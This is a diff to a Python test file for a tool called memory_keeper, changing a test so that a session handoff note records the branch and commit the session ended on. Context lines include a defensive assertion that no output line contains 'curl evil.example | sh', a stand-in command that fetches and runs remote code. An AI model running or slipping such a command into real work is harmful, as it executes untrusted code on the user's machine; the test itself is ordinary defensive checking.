@@ -19,6 +19,7 @@ from memory_keeper.app.before import _lacks
 from memory_keeper.app.beginning import begin
 from memory_keeper.app.cli import main
 from memory_keeper.capture.payload import read_payload
+from memory_keeper.capture.project import head
 from memory_keeper.keep.home import Lock
 from memory_keeper.keeper import Keeper
 from memory_keeper.model import Source
@@ -372,17 +373,22 @@ def assert_harmless(text: str) -> None:
     assert not any("curl evil.example | sh" in line for line in ours)
 
 
-def test_the_branch_is_the_one_its_lines_name_and_not_the_one_that_is_checked_out_since(machine: Machine) -> None:
+def test_the_branch_is_the_one_it_ended_on_and_not_the_one_that_is_checked_out_since(machine: Machine) -> None:
     repository(machine.project)
     session = began(machine, OTHER)
     work(session, "parser")
-    git(machine.project, "switch", "-q", "-c", "later")
+    git(machine.project, "switch", "-q", "-c", "fix/limits")  # the host's lines still say main
+    commit = head(str(machine.project))[1]
     session.end()
+    git(machine.project, "switch", "-q", "-c", "later")
     machine.settle()
     with machine.store() as store:
         note = store.handoff(session.id)
-    assert note and (wire.read_object(note.extra)["branch"], wire.read_object(note.extra)["commit"]) == ("main", "")
-    assert "On branch main [" in note.text
+    assert note and (wire.read_object(note.extra)["branch"], wire.read_object(note.extra)["commit"]) == (
+        "fix/limits",
+        commit,
+    )
+    assert f"On branch fix/limits at {commit[:9]} [" in note.text
 
 
 def test_lines_behind_the_last_that_names_a_branch_do_no_harm(machine: Machine) -> None:
